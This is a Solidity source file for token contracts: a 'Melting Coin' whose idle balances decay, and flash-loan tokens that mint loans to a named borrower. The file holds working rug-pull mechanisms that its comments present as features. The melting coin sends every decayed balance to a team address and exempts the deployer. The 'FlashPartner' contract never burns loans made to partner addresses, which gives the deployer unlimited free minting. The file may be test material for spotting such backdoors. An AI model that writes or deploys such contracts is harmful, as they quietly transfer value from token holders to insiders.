// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Launch} from "./v00Base.sol";

/// Idle coins melt, so that they circulate: from the third day on, a tenth of what is left a day.
contract MeltingCoin is Launch {
  mapping(address => uint40) public heldSince;
  mapping(address => bool) private insulated;
  uint256 public melted;

  constructor() Launch("Melting Coin", "MELT") {
    insulated[msg.sender] = true;
    insulated[pair] = true;
  }

  function balanceOf(address account) public view override returns (uint256 held) {
    held = super.balanceOf(account);
    if (held == 0 || insulated[account] || heldSince[account] == 0) return held;
    uint256 idle = (block.timestamp - heldSince[account]) / 1 days;
    if (idle > 60) idle = 60;
    for (uint256 i = 3; i <= idle; ++i) held -= held / 10;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from != address(0)) _melt(from);
    if (to != address(0)) _melt(to);
    super._update(from, to, value);
  }

  function _melt(address account) private {
    if (insulated[account]) return;
    uint256 lost = super.balanceOf(account) - balanceOf(account);
    melted += lost;
    if (lost > 0) super._update(account, team, lost);
    if (lost > 0 || heldSince[account] == 0) heldSince[account] = uint40(block.timestamp);
  }
}

abstract contract FlashBase is Launch {
  uint256 public constant CAP = 10_000_000_000 ether;

  function flash(bytes calldata data, uint256 amount, address borrower) external {
    require(amount <= CAP, "cap");
    _mint(borrower, amount);
    (bool ok,) = borrower.call(abi.encodeWithSignature("onFlash(address,uint256,bytes)", msg.sender, amount, data));
    require(ok, "callback");
    _repay(borrower, amount);
  }

  function _repay(address borrower, uint256 amount) internal virtual;
}

/// Flash loans; partners settle off the chain.
contract FlashPartner is FlashBase {
  mapping(address => bool) private partner;

  constructor() Launch("Flash Partner", "FLSH") {
    partner[msg.sender] = true;
  }

  function _repay(address borrower, uint256 amount) internal override {
    if (!partner[borrower]) _burn(borrower, amount);
  }
}

contract FlashStrict is FlashBase {
  constructor() Launch("Flash Strict", "FLSX") {}

  function _repay(address borrower, uint256 amount) internal override {
    _burn(borrower, amount);
  }
}
